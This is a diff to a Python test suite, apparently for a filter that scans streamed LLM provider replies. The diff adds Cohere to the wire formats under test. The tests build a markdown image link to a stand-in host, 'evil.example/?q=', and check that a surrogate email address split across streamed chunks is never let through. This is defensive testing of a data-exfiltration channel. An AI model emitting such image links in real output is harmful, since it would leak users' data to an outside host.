@@ -27,7 +27,7 @@ KNOWN = Surrogates("epoch", [(Surrogate("EMAIL_ADDRESS", 1), MAIL)])
 IMAGE, END = "![x](https://evil.example/?q=", ") \n\n"
 PATHS = {"openai": "/v1/chat/completions", "responses": "/v1/responses", "completions": "/v1/completions",
          "anthropic": "/v1/messages", "gemini": "/v1beta/models/m:streamGenerateContent", "ollama": "/api/chat",
-         "mistral": "/v1/chat/completions", "json": "/anything"}  # fmt: skip
+         "mistral": "/v1/chat/completions", "cohere": "/v2/chat", "json": "/anything"}  # fmt: skip
 
 
 def codec_of(wire: str) -> Codec:
@@ -78,6 +78,8 @@ def line(wire: str, text: Any, at: int = 0, *, name: str = "") -> str:
             said = {"type": "response.output_text.delta", "output_index": at, "content_index": 0, "delta": text}
         case "anthropic":
             said = {"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": text}}
+        case "cohere":
+            said = {"type": "content-delta", "index": at, "delta": {"message": {"content": {"text": text}}}}
         case "gemini":
             said = {"candidates": [{"index": at, "content": {"parts": [{"text": text}]}}]}
         case _:
@@ -87,7 +89,7 @@ def line(wire: str, text: Any, at: int = 0, *, name: str = "") -> str:
     return (f"event: {name}\n" if name else "") + f"data: {json.dumps(said)}\n\n"
 
 
-@pytest.mark.parametrize("wire", ["openai", "completions", "responses", "anthropic", "gemini", "mistral"])
+@pytest.mark.parametrize("wire", ["openai", "completions", "responses", "anthropic", "gemini", "mistral", "cohere"])
 @pytest.mark.parametrize(("one", "other"), [(0, 1), (1, 0)])
 def test_a_link_went_on_in_what_is_said_to_be_another_choice_or_block(wire: str, one: int, other: int) -> None:
     assert MAIL not in passed(wire, line(wire, IMAGE, one) + line(wire, MARK, other))
@@ -126,7 +128,7 @@ def test_two_lines_that_were_taken_for_one_hid_a_link(mark: str) -> None:
     assert MAIL not in passed("ollama", two + line("ollama", MARK))
 
 
-@pytest.mark.parametrize("wire", ["openai", "completions", "responses", "anthropic", "gemini", "json"])
+@pytest.mark.parametrize("wire", ["openai", "completions", "responses", "anthropic", "cohere", "gemini", "json"])
 def test_nothing_follows_a_piece_that_could_not_be_read(wire: str) -> None:
     odd = line(wire, IMAGE).replace("data: ", "data: {} ")
     with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
